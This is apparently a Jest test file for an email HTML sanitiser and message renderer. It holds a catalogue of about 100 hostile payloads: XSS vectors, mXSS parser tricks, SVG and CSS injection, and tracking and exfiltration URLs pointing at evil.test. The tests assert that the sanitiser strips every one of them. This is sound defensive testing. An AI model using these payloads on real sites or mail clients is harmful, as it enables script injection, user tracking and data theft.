import { describe, expect, it } from '@jest/globals';
import { findAll, type HtmlElement, parseHtmlTree } from './html-tree.js';
import { renderMessageDocument, textToHtml } from './message-document.js';
import { sanitiseMessageHtml } from './message-html.js';

/** Own payloads, by class: scripts and parsers (A1), SVG (A2), names (A3), CSS (A4), loading (A5). */
const HOSTILE: Record<string, string[]> = {
  A1: [
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<SCRIPT/SRC=//evil.test/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="x" OnErRoR="alert(1)">',
    '<body onload=alert(1)>',
    '<div onmouseover="alert(1)" style="width:100px">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://evil.test/x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<iframe src="https://evil.test"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.test/x.swf"></object>',
    '<embed src="https://evil.test/x.swf">',
    '<applet code="x"></applet>',
    '<form action="https://evil.test"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action=javascript:alert(1)>',
    '<base href="https://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if mso]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=alert(1)>',
    '<p id="x" class="y" name="z" contenteditable autofocus onfocus=alert(1) tabindex=0>x</p>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<details data-fold="" ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)></audio>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<select><option><script>alert(1)</script></option></select>',
    '<a href="https://ok.test" target="_top" onclick="alert(1)" ping="https://evil.test/p">x</a>',
    '<img src=`javascript:alert(1)`>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/png;base64,AAAA" onerror="alert(1)">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<td background="javascript:alert(1)">x</td>',
    '<frameset><frame src="https://evil.test"></frameset>',
    '<portal src="https://evil.test"></portal>',
    '<dialog open><form method=dialog>x</form></dialog>',
  ],
  A2: [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><use href="data:image/svg+xml;base64,AAAA#x"/></svg>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  A3: [
    '"><img src=x onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<a href="https://ok.test/\u202e">x</a>',
  ],
  A4: [
    '<style>@import "https://evil.test/x.css";</style>',
    '<style>input[value^=a]{background:url(https://evil.test/a)}</style>',
    '<style>@font-face{font-family:x;src:url(https://evil.test/f)}</style>',
    '<div style="background:url(https://evil.test/x)">x</div>',
    '<div style="background-image:url(https://evil.test/x)">x</div>',
    '<div style="background:\\75rl(https://evil.test/x)">x</div>',
    '<div style="background:u/**/rl(https://evil.test/x)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99">x</div>',
    '<div style="position:absolute;inset:0">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(https://evil.test/x)">x</div>',
    '<div style="margin-top:-500px">x</div>',
    '<div style="transform:translateY(-500px)">x</div>',
    '<div style="cursor:url(https://evil.test/x),auto">x</div>',
    '<div style="content:url(https://evil.test/x)">x</div>',
    '<div style="list-style-image:url(https://evil.test/x)">x</div>',
    '<div style="color:red;background:image-set(\'https://evil.test/x\' 1x)">x</div>',
    '<div style="font-family:\'x\';}</style><script>alert(1)</script>">x</div>',
    '<div style="--x:url(https://evil.test/x);background:var(--x)">x</div>',
  ],
  A5: [
    '<img src="https://evil.test/t.gif" width=1 height=1>',
    '<img src="//evil.test/t.gif">',
    '<img src="HTTP://evil.test/t.gif">',
    '<img src="ht\ntp://evil.test/t.gif">',
    '<img srcset="https://evil.test/t.gif 1x">',
    '<img src="cid:x" srcset="https://evil.test/t.gif 2x" lowsrc="https://evil.test/l" dynsrc="https://evil.test/d">',
    '<img data-src="https://evil.test/t.gif" src="/own">',
    '<img src="\\\\evil.test\\t.gif">',
    '<img src="/\\evil.test/t.gif">',
    '<picture><source srcset="https://evil.test/t.gif"><img src="https://evil.test/t.gif"></picture>',
    '<video poster="https://evil.test/p.gif" src="https://evil.test/v"></video>',
    '<svg><image href="https://evil.test/t.gif"/></svg>',
    '<svg><feImage href="https://evil.test/t.gif"/></svg>',
    '<table background="https://evil.test/t.gif"><tr><td>x</td></tr></table>',
    '<body background="https://evil.test/t.gif">x</body>',
    '<link rel="preconnect" href="https://evil.test"><link rel="dns-prefetch" href="//evil.test">',
    '<input type="image" src="https://evil.test/t.gif">',
    '<blockquote cite="https://evil.test/t">x</blockquote>',
    '<q cite="https://evil.test/t">x</q>',
    '<bgsound src="https://evil.test/t.wav">',
  ],
};
const ALLOWED =
  /^(?:style|href|target|rel|src|data-src|alt|title|dir|lang|align|valign|width|height|border|cellpadding|cellspacing|bgcolor|colspan|rowspan|span|color|face|size|start|type|class|content|charset|name|http-equiv)$/;

/** What a browser could run or load in this markup. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  findAll(parseHtmlTree(html), (element) => {
    dangers.push(...dangersOf(element));
    return false;
  });
  return dangers;
}

function dangersOf(element: HtmlElement): string[] {
  const dangers: string[] = [];
  if (
    /^(script|style|iframe|frame|object|embed|applet|form|input|button|textarea|select|base|link|meta|svg|math|video|audio|source|picture|xmp|noscript|template|title|plaintext|dialog)$/.test(
      element.name,
    )
  ) {
    dangers.push(`<${element.name}>`);
  }
  for (const [name, value] of Object.entries(element.attributes)) {
    if (!ALLOWED.test(name)) dangers.push(`attribute ${name}`);
    if (name === 'src' && !/^(\/(?![/\\])|data:image\/(png|gif|jpeg|webp);base64,[\w+/=]*$)/.test(value))
      dangers.push(`src ${value}`);
    if (name === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value)) dangers.push(`href ${value}`);
    if (name === 'style' && /url|expression|position|transform|@|\\|\/\*|var\(|-\d|image/i.test(value))
      dangers.push(`style ${value}`);
  }
  if (element.name === 'a' && element.attributes.href && element.attributes.rel !== 'noopener noreferrer')
    dangers.push('link with opener');
  return dangers;
}

const payloads = Object.entries(HOSTILE).flatMap(([kind, each]) => each.map((payload) => [kind, payload] as const));

describe('mail HTML on a screen', () => {
  it('is tested with at least 60 payloads, each of which the check would report', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(100);
    const unseen = payloads.filter(([, payload]) => dangersIn(payload).length === 0);
    expect(unseen.length).toBeLessThanOrEqual(12);
  });

  it.each(payloads)('keeps nothing that runs, loads, covers or posts (%s): %s', (_, payload) => {
    for (const html of [
      payload,
      `<p>a</p>${payload}<p>b</p>`,
      `<table><tr><td>${payload}</td></tr></table>`,
      `<div class="gmail_quote">${payload}</div>`,
    ]) {
      expect(dangersIn(sanitiseMessageHtml(html))).toEqual([]);
      const document = renderMessageDocument({ html, quoteLabel: 'Quoted', language: 'en' });
      const body = document.slice(document.indexOf('<body'));
      expect(dangersIn(body)).toEqual([]);
      // A second reading of the result finds the same: there is nothing that changes its meaning when parsed again.
      const once = sanitiseMessageHtml(html);
      expect(sanitiseMessageHtml(once)).toBe(once.replace(/ data-src="[^"]*"/g, ''));
    }
  });

  it('keeps ordinary mail as it is', () => {
    const html =
      '<p dir="rtl" style="color:#333;font-size:14px;margin:0 0 1em">A <b>b</b></p><table border="1"><tr><td colspan="2" bgcolor="#fff">x</td></tr></table><ol start="3"><li>c</li></ol>';
    expect(sanitiseMessageHtml(html)).toContain(
      '<p dir="rtl" style="color:#333;font-size:14px;margin:0 0 1em">A <b>b</b></p>',
    );
    expect(sanitiseMessageHtml(html)).toContain('<td colspan="2" bgcolor="#fff">x</td>');
  });

  it('opens links in a new window without opener and referrer', () => {
    expect(sanitiseMessageHtml('<a href="https://ok.test/a?b=1&amp;c=2">x</a>')).toBe(
      '<a href="https://ok.test/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it('shows inline images from our own path and remote ones as placeholders', () => {
    const html = '<img src="cid:a%40b" alt="A"><img src="cid:none"><img src="https://x.test/i.png" alt="B">';
    const images = { inlineImage: (cid: string) => (cid === 'a@b' ? '/messages/1/parts/2' : undefined) };
    expect(sanitiseMessageHtml(html, images)).toBe(
      '<img alt="A" src="/messages/1/parts/2" /><img /><img alt="B" data-src="https://x.test/i.png" />',
    );
    const remote = { remoteImage: (url: string) => `/images?u=${encodeURIComponent(url)}` };
    expect(sanitiseMessageHtml('<img src="https://x.test/i.png">', remote)).toBe(
      '<img src="/images?u=https%3A%2F%2Fx.test%2Fi.png" />',
    );
  });

  it('says above the mail how many images and links it left out, and nothing when it left out none', () => {
    const render = (html: string) =>
      renderMessageDocument({
        html,
        quoteLabel: 'q',
        language: 'en',
        leftOutLabel: (what, count) => `${count} <${what}>`,
      });
    const images = '<img src="https://x.test/i.png"><blockquote type="cite"><img src="//x.test/t.gif"></blockquote>';
    const links = '<a href="java\nscript:alert(1)">a</a><a href="file:///etc">b</a><a href="HTTPS://ok.test">c</a>';
    expect(render(images + links)).toContain(
      '<body dir="auto"><p class="left-out" lang="en">2 &lt;image&gt;<br>2 &lt;link&gt;</p>',
    );
    const whole =
      '<img src="cid:a"><img src="data:image/png;base64,AAAA"><a href="mailto:a@b.test">a</a><a href="#x">b</a>';
    expect(render(whole)).not.toContain('class="left-out"');
  });

  it('has no link into our own pages: what leads nowhere by itself is words', () => {
    const links = ['/tickets/1', 'index.html', '?a=1', '//x.test/a', '\\\\x.test', './a', ' /a', 'x.test', '#top', ''];
    for (const href of links) {
      let left = 0;
      const html = sanitiseMessageHtml(`<a href="${href}" target="_top">words</a>`, { leftOutLink: () => (left += 1) });
      expect(html).toBe('<a>words</a>');
      expect([href, left]).toEqual([href, href === '#top' || href === '' ? 0 : 1]);
    }
  });

  it.each([
    ['a source for large screens', '<img srcset="https://x.test/a.png 2x">', 1],
    ['one image with two sizes', '<img src="https://x.test/a.png" srcset="https://x.test/b.png 2x">', 1],
    ['an own image with a remote larger size', '<img src="cid:a" srcset="https://x.test/b.png 2x">', 0],
    [
      'one picture with three sources',
      '<picture><source srcset="https://x.test/a.webp"><source srcset="//x.test/b.png 1x, //x.test/c.png 2x"><img src="https://x.test/d.png"></picture>',
      1,
    ],
    ['a picture without an image', '<picture><source srcset="https://x.test/a.webp"><img></picture>', 1],
    [
      'backgrounds of a table',
      '<table background="https://x.test/a.png"><tr background="http://x.test/b.png"><td background=" //x.test/c.png">x</td></tr></table>',
      3,
    ],
    ['a background of the body', '<body background="https://x.test/a.png">x</body>', 1],
    ['a background in a style', `<div style="color:red;background:#fff url( 'https://x.test/a.png' )">x</div>`, 1],
    ['a bullet', '<ul style="list-style-image:url(//x.test/a.png)"><li>x</li></ul>', 1],
    [
      'rules of a style sheet, each address once',
      '<head><style>@import url(https://x.test/a.css);@font-face{font-family:a;src:url(https://x.test/a.woff)}.a{background-image:url(https://x.test/a.png)}.b{background:url("https://x.test/b.png")}.c{background:url(https://x.test/a.png)}</style></head>',
      2,
    ],
    ['a drawing', '<svg><image href="https://x.test/a.png"/><image xlink:href="https://x.test/b.png"/></svg>', 1],
    ['a drawing of its own lines', '<svg><path d="M0 0"/></svg>', 0],
    [
      'a video and a button',
      '<video poster="https://x.test/a.png"></video><input type="image" src="//x.test/b.png">',
      2,
    ],
    ['nothing but words', '<p style="color:red" background="no">https://x.test/a.png</p><img src="a.png">', 0],
  ])('counts %s', (_, html, count) => {
    const leftOutLabel = (what: string, found: number) => `${found} ${what}`;
    const shown = renderMessageDocument({ html, quoteLabel: 'q', language: 'en', leftOutLabel });
    if (count === 0) expect(shown).not.toContain('class="left-out"');
    else expect(shown).toContain(`<p class="left-out" lang="en">${count} image</p>`);
    expect(shown).not.toMatch(/\s(?:src|srcset|background|poster)=|url\(/);
  });

  it('counts what stays behind when images are loaded', () => {
    const shown = renderMessageDocument({
      html: '<img src="https://x.test/a.png"><td background="https://x.test/b.png"></td>',
      quoteLabel: 'q',
      language: 'en',
      images: { remoteImage: () => '/images/1' },
      leftOutLabel: (what, found) => `${found} ${what}`,
    });
    expect(shown).toContain('<p class="left-out" lang="en">1 image</p><img src="/images/1" />');
  });

  it('folds quotes by details of our own, and only those', () => {
    const html =
      '<p>said</p><details open><summary>theirs</summary></details><blockquote type="cite"><p>quote</p><blockquote>older</blockquote></blockquote>';
    const document = renderMessageDocument({ html, quoteLabel: 'Show "quoted" text', language: 'en' });
    expect(document.match(/<details/g)).toHaveLength(1);
    expect(document).toContain(
      '<details class="quote"><summary>Show &quot;quoted&quot; text</summary><blockquote><p>quote</p>',
    );
  });

  it('survives 100,000 nested elements', () => {
    const document = renderMessageDocument({ html: `${'<div>'.repeat(100_000)}deep`, quoteLabel: 'q', language: 'en' });
    expect(document).toContain('</html>');
  });

  it('shows text with links, escaped, the quote folded', () => {
    const text = 'See https://x.test/a_(b)?c=1&d=2. <script>alert(1)</script> (https://y.test/z).';
    expect(textToHtml(text)).toBe(
      'See <a href="https://x.test/a_(b)?c=1&amp;d=2" target="_blank" rel="noopener noreferrer">https://x.test/a_(b)?c=1&amp;d=2</a>. &lt;script&gt;alert(1)&lt;/script&gt; (<a href="https://y.test/z" target="_blank" rel="noopener noreferrer">https://y.test/z</a>).',
    );
    const document = renderMessageDocument({ text, quotedText: '<b>old</b>', quoteLabel: 'Q', language: 'et' });
    expect(document).toContain('<html lang="et">');
    expect(document).toContain(
      '<details class="quote"><summary>Q</summary><div class="text">&lt;b&gt;old&lt;/b&gt;</div></details>',
    );
    expect(dangersIn(document.slice(document.indexOf('<body')))).toEqual([]);
  });

  it('links at most 2,000 addresses of a million', () => {
    expect(textToHtml('http://x.test '.repeat(100_000)).match(/<a /g)).toHaveLength(2_000);
  });

  it('shows mail with its own colours on white paper', () => {
    const render = (html: string) => renderMessageDocument({ html, quoteLabel: 'q', language: 'en' });
    expect(render('<p style="color:#111">x</p>')).toContain('class="paper"');
    expect(render('<p>x</p>')).not.toContain('class="paper"');
  });
});
